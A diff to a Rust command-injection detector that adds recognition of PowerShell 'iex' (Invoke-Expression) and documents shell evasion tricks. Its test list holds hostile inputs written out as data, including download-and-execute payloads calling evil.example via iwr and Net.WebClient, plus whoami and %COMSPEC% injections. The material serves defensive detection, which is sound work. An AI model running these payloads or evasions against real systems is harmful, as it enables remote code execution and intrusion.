@@ -3,7 +3,10 @@
 //! `FOR`/`IF`), and a known command where a shell would start one (after `;`, `|`, `&`, a
 //! newline, a backtick, or opening the value), read through the evasions shells undo: quotes
 //! and backslashes inside a word (`c''at`, `w\hoami`), empty expansions (`who$@ami`,
-//! `pi$()ng`), `${IFS}` for a space, and carets (`w^hoami`).
+//! `pi$()ng`), `${IFS}` for a space, and carets (`w^hoami`); a command word built from
+//! expansions stands for what they hold (`$0` is the shell, `a=id;$a` runs `id`, cmd's
+//! `set a=whoami& call %a%`), and one run through a shell's prefix (`exec`, `command`, `eval`)
+//! or by a Windows drive path is the command it names.
 
 use super::decode::{byte_set, find_ci, find_either_ci, find_in, is_word, starts_with_ci, Hit, Shape, WordTable};
 
@@ -36,7 +39,7 @@ pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit
     };
     found
         .or_else(|| if shape.whitespace() || shape.has(const { Shape::mask(b"/") }) { batch(v) } else { None })
-        .or_else(|| if shape.has(const { Shape::mask(b"-") }) { powershell(v) } else { None })
+        .or_else(|| if shape.has(const { Shape::mask(b"-(|") }) { powershell(v) } else { None })
         .or_else(|| if level >= 2 && shape.line_break() { mail_protocol(v) } else { None })
 }
 
@@ -1586,6 +1589,9 @@ fn powershell(v: &[u8]) -> Option<Hit> {
     if starts_with_ci(v, b"iex") && v.get(3).is_some_and(|&b| b == b'(' || b == b' ') {
         return Some(Hit::new(1, 0, v.len().min(16)));
     }
+    if let Some(at) = invoke_expression(v) {
+        return Some(Hit::new(1, at, (at + 24).min(v.len())));
+    }
     let mut i = 0;
     while i < v.len() {
         if (i == 0 || !is_word(v[i - 1])) && v[i].is_ascii_alphabetic() {
@@ -1608,6 +1614,33 @@ fn powershell(v: &[u8]) -> Option<Hit> {
             continue;
         }
         i += 1;
+    }
+    None
+}
+
+/// PowerShell's `iex` (Invoke-Expression) after a separator, running what it is given:
+/// `; iex(iwr evil.example)`, `; iex (New-Object Net.WebClient)...`, or at a pipe's end,
+/// `... | iex`. The stock exchange of the same name is followed by prose, not by code.
+fn invoke_expression(v: &[u8]) -> Option<usize> {
+    let mut from = 0;
+    while let Some(at) = find_ci(v, b"iex", from) {
+        from = at + 3;
+        let before = v[..at].trim_ascii_end();
+        let separated = matches!(before.last(), Some(b';' | b'|' | b'&' | b'\n' | b'\r' | b'('));
+        if !separated || v.get(at + 3).is_some_and(|&b| is_word(b)) {
+            continue;
+        }
+        let rest = v[at + 3..].trim_ascii_start();
+        let piped = before.last() == Some(&b'|') && rest.first().is_none_or(|b| matches!(b, b';' | b')' | b'|'));
+        let code = rest.strip_prefix(b"(").map(<[u8]>::trim_ascii_start).is_some_and(|arg| {
+            matches!(arg.first(), Some(b'[' | b'$' | b'(' | b'\'' | b'"'))
+                || [&b"iwr"[..], b"irm", b"new-object", b"invoke-", b"gc ", b"get-content"]
+                    .iter()
+                    .any(|p| starts_with_ci(arg, p))
+        });
+        if piped || code {
+            return Some(at);
+        }
     }
     None
 }
@@ -1848,6 +1881,10 @@ mod tests {
             "& set a=whoami& call %a%",
             "& %COMSPEC% /c whoami",
             "& c:\\windows\\system32\\whoami.exe",
+            "; iex(iwr evil.example)",
+            "x; iex (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
+            "x | iex",
+            "x | IEX;",
         ] {
             assert!(cmdi(s, 1), "{s}");
         }
@@ -1860,6 +1897,8 @@ mod tests {
             "a=1; see $b",
             "C:\\Users\\me\\report.docx; C:\\Program Files\\Git",
             "Great service; command center was helpful",
+            "Listed on Nasdaq; IEX (Investors Exchange) too",
+            "x; iex is a stock exchange",
         ] {
             assert!(!cmdi(s, 1), "{s}");
         }
